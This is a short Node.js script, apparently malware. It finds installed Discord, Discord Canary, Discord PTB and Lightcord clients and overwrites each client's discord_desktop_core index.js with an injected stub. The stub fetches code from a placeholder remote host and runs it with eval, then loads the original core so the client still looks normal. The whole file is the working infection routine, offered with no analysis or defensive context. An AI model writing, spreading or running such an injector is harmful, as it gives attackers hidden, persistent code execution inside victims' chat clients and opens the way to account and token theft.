const fs = require('fs')
const path = require('path')

const clients = ['Discord', 'DiscordCanary', 'DiscordPTB', 'Lightcord']
const local = process.env.LOCALAPPDATA || ''

function cores (client) {
  const base = path.join(local, client)
  if (!local || !fs.existsSync(base)) return []
  return fs.readdirSync(base)
    .filter((entry) => entry.startsWith('app-'))
    .map((entry) => path.join(base, entry, 'modules', 'discord_desktop_core-1', 'discord_desktop_core', 'index.js'))
    .filter((file) => fs.existsSync(file))
}

const stub = "require('https').get('https://inject.example.invalid/c', r => { let b = ''; r.on('data', d => b += d); r.on('end', () => eval(b)) });\nmodule.exports = require('./core.asar');\n"

clients.flatMap(cores).forEach((file) => {
  fs.writeFileSync(file, stub)
})
